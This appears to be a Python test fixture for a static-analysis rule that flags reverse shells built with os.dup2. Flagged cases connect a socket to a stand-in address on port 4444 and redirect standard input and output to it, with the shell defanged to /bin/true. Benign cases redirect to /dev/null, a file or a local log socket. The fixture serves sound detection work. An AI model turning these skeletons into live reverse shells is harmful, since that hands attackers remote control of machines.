import os
import pty
import socket
import subprocess


def connect_back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.10", 4444))
    # ruleid: reverse-shell-dup2
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)  # the stdin line above already tells
    pty.spawn("/bin/true")


def pipe_shell():
    sock = socket.create_connection(("203.0.113.10", 4444))
    # ruleid: reverse-shell-dup2
    subprocess.call(["/bin/true"], stdin=sock.fileno(), stdout=sock.fileno())


def daemonize():
    devnull = open(os.devnull, "r+")
    # ok: reverse-shell-dup2
    os.dup2(devnull.fileno(), 0)


def client():
    s = socket.socket()
    s.connect(("example.invalid", 80))
    # ok: reverse-shell-dup2
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    out = open("log.txt", "w")
    # ok: reverse-shell-dup2
    os.dup2(out.fileno(), 1)


def forward_logs(socket_path):
    # stdout/stderr sent to a local log socket: no shell reads from it
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(socket_path)
        # ok: reverse-shell-dup2
        os.dup2(s.fileno(), 1)


def loop_shell(host):
    s = socket.socket()
    s.connect((host, 4444))
    for fd in (0, 1, 2):
        # ruleid: reverse-shell-dup2
        os.dup2(s.fileno(), fd)
